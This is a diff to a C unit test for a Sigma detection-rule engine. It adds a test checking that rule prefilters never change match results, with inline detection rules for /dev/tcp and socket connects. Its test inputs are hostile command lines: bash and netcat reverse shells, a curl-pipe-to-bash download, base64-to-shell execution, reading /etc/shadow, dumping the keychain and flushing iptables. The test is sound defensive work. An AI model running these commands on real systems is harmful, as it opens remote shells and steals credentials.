@@ -4,11 +4,13 @@
  * and allocation failure during loading (no leak, clean error). */
 #include "testutil.h"
 
+#include <ctype.h>
 #include <jansson.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
 #include "sigma.h"
+#include "sigma_int.h"     /* sj_no_prefilter, for the filter equivalence test */
 #include "util.h"
 
 /* ---- a tiny event: field/value pairs ------------------------------------- */
@@ -877,6 +879,73 @@ static void test_pack_attacks(void **state) {
 }
 
 
+
+/* The filters (item end sets, rule prefilters, regex literals) must never
+ * change an answer: the team pack plus rules exercising every filter kind,
+ * matched with and without them over many command lines (the benign and
+ * attack lines above, and each cut at every tenth position, upper-cased, and
+ * with an Image path), must give the same hits. */
+static void test_filters_equivalent(void **state) {
+    (void)state;
+    static const char *extra =
+        "title: ends\nlogsource:\n  category: process_creation\n"
+        "detection:\n  s:\n    Image|endswith: [/sh, /bash, /nc, /x]\n    CommandLine|startswith: [sh, bash, n]\n"
+        "  condition: s\n---\n"
+        "title: alts\nlogsource:\n  category: process_creation\n"
+        "detection:\n  a:\n    - CommandLine|contains: 'dev/tcp'\n    - CommandLine|re: 'socket.{0,40}connect'\n"
+        "  b:\n    CommandLine|contains|all: [' -e ', '/bin']\n  condition: 1 of them\n";
+    static const char *lines[] = {
+        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "nc -e /bin/sh 10.0.0.1 4242", "ls -l /bin/bash",
+        "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",1))'",
+        "curl -s http://198.51.100.2/x.sh | bash", "chmod u+s /bin/bash", "sh -c 'echo hi' 2>&1",
+        "docker run --rm -it --entrypoint /bin/sh alpine:3.19", "security dump-keychain -d login.keychain",
+        "find . -exec /bin/sh \\; -quit", "vim -c ':!/bin/sh'", "echo ZWNobyBoaQ== | base64 -d | sh",
+        "LD_PRELOAD=/tmp/libhook.so /usr/bin/passwd", "cat /etc/shadow", "iptables -F", "n",
+    };
+    int err;
+    sigma_rules *rs = sigma_rules_new(&err);
+    assert_true(sigma_load_path(rs, "rules/nightjar") > 0);
+    assert_int_equal(sigma_load_text(rs, "extra.yml", extra, strlen(extra)), 2);
+    const char *sigmahq = getenv("NIGHTJAR_SIGMA_DIR");     /* more rules when there */
+    if (sigmahq && *sigmahq) {
+        char p[1024];
+        snprintf(p, sizeof p, "%s/rules/linux", sigmahq);
+        sigma_load_path(rs, p);
+        snprintf(p, sizeof p, "%s/rules/macos", sigmahq);
+        sigma_load_path(rs, p);
+    }
+    int compared = 0, hits = 0;
+    for (size_t i = 0; i < NJ_ARRAY_LEN(lines); i++) {
+        size_t len = strlen(lines[i]);
+        for (size_t cut = 1; cut <= len + 9; cut += 10) {
+            for (int variant = 0; variant < 3; variant++) {
+                char cmd[512], img[64];
+                snprintf(cmd, sizeof cmd, "%.*s", (int)(cut < len ? cut : len), lines[i]);
+                if (variant == 1)
+                    for (char *q = cmd; *q; q++) *q = (char)toupper((unsigned char)*q);
+                size_t a0 = strcspn(cmd, " ");
+                snprintf(img, sizeof img, variant == 2 ? "/usr/bin/%.*s" : "%.*s", (int)(a0 < 40 ? a0 : 40), cmd);
+                kv e = {{"CommandLine", "Image"}, {cmd, img}, 2};
+                sigma_event_view v = {kv_get, &e, cmd, strlen(cmd), NULL, "process_creation", NULL};
+                sigma_hit h1[32], h2[32];
+                sj_no_prefilter = 0;
+                int k1 = sigma_match(rs, &v, h1, 32);
+                sj_no_prefilter = 1;
+                int k2 = sigma_match(rs, &v, h2, 32);
+                sj_no_prefilter = 0;
+                if (k1 != k2) fail_msg("filters changed the hit count (%d vs %d) for: %s", k1, k2, cmd);
+                for (int j = 0; j < k1 && j < 32; j++)
+                    if (h1[j].rule != h2[j].rule) fail_msg("filters changed hit %d for: %s", j, cmd);
+                compared++;
+                hits += k1;
+            }
+        }
+    }
+    assert_true(compared > 100);
+    assert_true(hits > 20);
+    sigma_rules_free(rs);
+}
+
 /* SigmaHQ's own rules, when a checkout is named by NIGHTJAR_SIGMA_DIR (its
  * root or its rules/ folder; scripts/sigma-rules says how to get one): at
  * least 95% of the three folders nightjar's sources feed must load, and the
@@ -1036,6 +1105,7 @@ int main(void) {
         cmocka_unit_test(test_canonical_event),
         cmocka_unit_test(test_pack_benign),
         cmocka_unit_test(test_pack_attacks),
+        cmocka_unit_test(test_filters_equivalent),
         cmocka_unit_test(test_sigmahq),
         cmocka_unit_test(test_load_oom),
         cmocka_unit_test(test_dir_oom),
